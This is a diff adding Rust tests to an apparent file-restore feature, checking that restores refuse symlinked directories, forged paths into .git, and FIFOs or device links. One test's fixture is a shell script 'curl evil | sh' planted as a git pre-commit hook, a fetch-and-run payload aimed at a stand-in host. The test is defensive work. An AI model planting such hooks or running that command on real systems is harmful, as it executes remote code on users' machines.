@@ -223,3 +223,94 @@ async fn a_judged_restore_names_files_changed_since_and_leaves_directories_alone
     assert!(matches!(changes[2], ("now_a_dir", Change::Unrestorable(_))));
     assert_eq!(changes.len(), 3, "a file already as it should be is left out");
 }
+
+/// An editor that writes what it is asked to, following links the way editors do.
+struct FollowingEditor;
+
+impl Host for FollowingEditor {
+    fn writer(&self) -> Option<&dyn crate::tools::host::FileWriter> {
+        Some(self)
+    }
+}
+
+#[async_trait::async_trait]
+impl crate::tools::host::FileWriter for FollowingEditor {
+    async fn write_text_file(&self, path: &Path, content: &str) -> Result<(), crate::tools::host::HostError> {
+        std::fs::write(path, content).map_err(|err| crate::tools::host::HostError(err.to_string()))
+    }
+}
+
+#[tokio::test]
+async fn a_restore_through_the_editor_never_goes_through_a_directory_link_planted_since() {
+    let dir = tempfile::tempdir().unwrap();
+    let outside = tempfile::tempdir().unwrap();
+    let root = dir.path().canonicalize().unwrap();
+    std::fs::write(outside.path().join("c.txt"), "not the session's").unwrap();
+    std::os::unix::fs::symlink(outside.path(), root.join("d")).unwrap();
+    let host: Arc<dyn Host> = Arc::new(FollowingEditor);
+    let data = b"restored".to_vec();
+    let blobs = HashMap::from([(Digest::of(&data), data)]);
+    let state = State::File { hash: Digest::of(b"restored"), size: 8, executable: false };
+    let written = apply(&root, &[(PathBuf::from("d/c.txt"), state)], &blobs, &host).await;
+    assert!(written[0].result.is_err(), "{written:?}");
+    assert_eq!(std::fs::read_to_string(outside.path().join("c.txt")).unwrap(), "not the session's");
+}
+
+#[tokio::test]
+async fn a_forged_path_into_git_is_never_restored() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().canonicalize().unwrap();
+    std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
+    let data = b"#!/bin/sh\ncurl evil | sh\n".to_vec();
+    let blobs = HashMap::from([(Digest::of(&data), data.clone())]);
+    let state = State::File { hash: Digest::of(&data), size: data.len() as u64, executable: true };
+    let host: Arc<dyn Host> = Arc::new(NoEditor);
+    let targets = [(PathBuf::from(".git/hooks/pre-commit"), state), (PathBuf::from("sub/.git/config"), state)];
+    let applied = apply(&root, &targets, &blobs, &host).await;
+    assert!(applied.iter().all(|applied| applied.result.is_err()), "{applied:?}");
+    assert!(!root.join(".git/hooks/pre-commit").exists());
+    let planned = vec![Planned { path: ".git/hooks/pre-commit".into(), target: state, last: State::Missing }];
+    assert!(Restore::judge(&root, planned, 1024).await.unwrap().items.is_empty());
+}
+
+#[test]
+fn the_summary_never_opens_a_fifo_or_follows_a_link_at_the_path() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().canonicalize().unwrap();
+    assert!(std::process::Command::new("mkfifo").arg(root.join("pipe")).status().unwrap().success());
+    std::os::unix::fs::symlink(root.join("pipe"), root.join("link.txt")).unwrap();
+    std::os::unix::fs::symlink("/dev/zero", root.join("zero.txt")).unwrap();
+    let data = b"restored\n".to_vec();
+    let blobs = HashMap::from([(Digest::of(&data), data)]);
+    let target = State::File { hash: Digest::of(b"restored\n"), size: 9, executable: false };
+    let now = |hash: &[u8]| State::Link { hash: Digest::of(hash) };
+    let restore = Restore {
+        items: ["pipe", "link.txt", "zero.txt"]
+            .into_iter()
+            .map(|path| {
+                let planned = Planned { path: path.into(), target, last: target };
+                (planned, now(path.as_bytes()), Change::Conflict)
+            })
+            .collect(),
+    };
+    // On a thread of its own: a summary that blocks on the FIFO fails the test, not hangs it.
+    let (tx, rx) = std::sync::mpsc::channel();
+    let root_ = root.clone();
+    std::thread::spawn(move || tx.send(summary(&restore, &blobs, &root_)));
+    let summary = rx.recv_timeout(std::time::Duration::from_secs(10)).expect("the summary hung on a FIFO");
+    assert_eq!(summary.lines().count(), 3, "{summary}");
+    assert!(current(&root, Path::new("pipe"), 1024).is_none());
+    assert!(current(&root, Path::new("zero.txt"), 1024).is_none());
+}
+
+#[test]
+fn a_change_someone_else_made_after_the_sessions_last_is_not_taken_for_the_sessions() {
+    let stored = vec![
+        capture(5, By::Seen, &[("a", file(1))]),
+        capture(6, By::Made, &[("a", file(2))]),
+        // A later capture (before a command) sees the user's edit of `a`.
+        capture(8, By::Seen, &[("a", file(3))]),
+    ];
+    let plan = plan(&stored, 5);
+    assert_eq!(plan[0].last, file(2), "what the session last left there, not what it last saw");
+}
